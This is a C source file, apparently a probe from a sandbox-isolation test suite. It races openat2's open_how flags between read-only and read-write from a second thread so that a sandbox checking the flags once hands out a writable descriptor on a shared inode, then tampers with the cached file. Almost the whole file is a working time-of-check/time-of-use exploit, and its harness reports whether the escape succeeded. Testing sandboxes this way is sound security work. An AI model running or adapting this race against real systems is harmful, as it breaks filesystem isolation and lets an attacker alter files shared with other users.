// Cache poisoning by racing openat2's struct open_how: a thread flips how.flags between O_RDONLY
// and O_RDWR. A sandbox that decides copy-up from the flags it read, then lets the kernel read them
// again, hands out a writable fd on the shared inode.
#include <linux/openat2.h>

#include "cache.h"

static struct open_how how;
static volatile int stop;

static void* flipper(void* arg) {
  (void)arg;
  while (!stop) {
    __atomic_store_n(&how.flags, (unsigned long long)O_RDONLY, __ATOMIC_RELAXED);
    __atomic_store_n(&how.flags, (unsigned long long)O_RDWR, __ATOMIC_RELAXED);
  }
  return NULL;
}

int main(void) {
  p_start();
  cache_open_targets();
  struct target* t = &tg[0];
  memset(&how, 0, sizeof how);
  pthread_t th;
  pthread_create(&th, NULL, flipper, NULL);
  long tries = 0;
  double end = now_s() + 2.0;
  while (now_s() < end && !tampered) {
    ++tries;
    int fd = (int)syscall(SYS_openat2, AT_FDCWD, t->path, &how, sizeof how);
    if (fd < 0) continue;
    struct stat st;
    if ((fcntl(fd, F_GETFL) & O_ACCMODE) == O_RDWR && fstat(fd, &st) == 0 &&
        st.st_ino == t->orig.st_ino)
      tamper("openat2 flags race", t, fd);
    else
      close(fd);
  }
  stop = 1;
  pthread_join(th, NULL);
  p_attemptf(tampered ? 0 : -1, "openat2 flags race: %ld tries", tries);
  cache_report();
  p_end();
}
